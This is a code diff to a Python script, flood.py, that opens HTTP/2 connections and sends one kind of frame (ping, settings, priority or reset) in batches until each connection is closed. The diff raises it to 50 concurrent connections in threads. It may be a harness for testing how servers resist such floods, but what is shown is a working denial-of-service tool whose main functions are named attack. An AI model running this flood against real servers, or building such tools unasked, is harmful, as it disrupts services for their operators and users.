@@ -1,4 +1,4 @@
-"""A client that floods: opens a connection of HTTP/2, sends frames of one kind until it is closed, and opens the next.
+"""A client that floods: opens connections of HTTP/2, sends frames of one kind on each until it is closed, and opens the next.
 
     flood.py ping|settings|priority|reset PORT HOST
 
@@ -6,21 +6,24 @@ On SIGTERM it says in JSON how many connections and frames there were, and how m
 """
 
 import json
+import os
 import signal
 import socket
 import sys
+import threading
 
 from hpack import Encoder
 from hyperframe.frame import Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+AT_ONCE = 50  # connections
 BATCH = 100  # frames in one write
 counts = {"connections": 0, "frames": 0, "goaway": 0}
 
 
 def stop(*_):
     print(json.dumps(counts), flush=True)
-    sys.exit(0)
+    os._exit(0)
 
 
 def batch(kind, host, stream):
@@ -79,7 +82,13 @@ def attack(kind, port, host):
     connection.close()
 
 
+def attack_on(kind, port, host):
+    while True:
+        attack(kind, port, host)
+
+
 if __name__ == "__main__":
     signal.signal(signal.SIGTERM, stop)
-    while True:
-        attack(sys.argv[1], int(sys.argv[2]), sys.argv[3])
+    for _ in range(AT_ONCE):
+        threading.Thread(target=attack_on, args=(sys.argv[1], int(sys.argv[2]), sys.argv[3]), daemon=True).start()
+    signal.pause()
